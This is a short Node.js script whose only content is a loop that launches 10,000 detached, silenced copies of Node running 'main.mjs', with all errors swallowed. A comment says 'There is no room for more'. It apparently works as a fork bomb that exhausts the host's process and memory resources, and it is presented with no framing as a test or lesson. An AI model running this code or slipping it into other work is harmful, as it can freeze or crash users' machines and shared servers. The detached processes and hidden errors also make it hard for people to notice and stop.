import { spawn } from 'node:child_process';

for (let i = 0; i < 10_000; i++) {
  try {
    spawn(process.execPath, ['main.mjs'], { detached: true, stdio: 'ignore' }).on('error', () => {});
  } catch {
    // There is no room for more.
  }
}
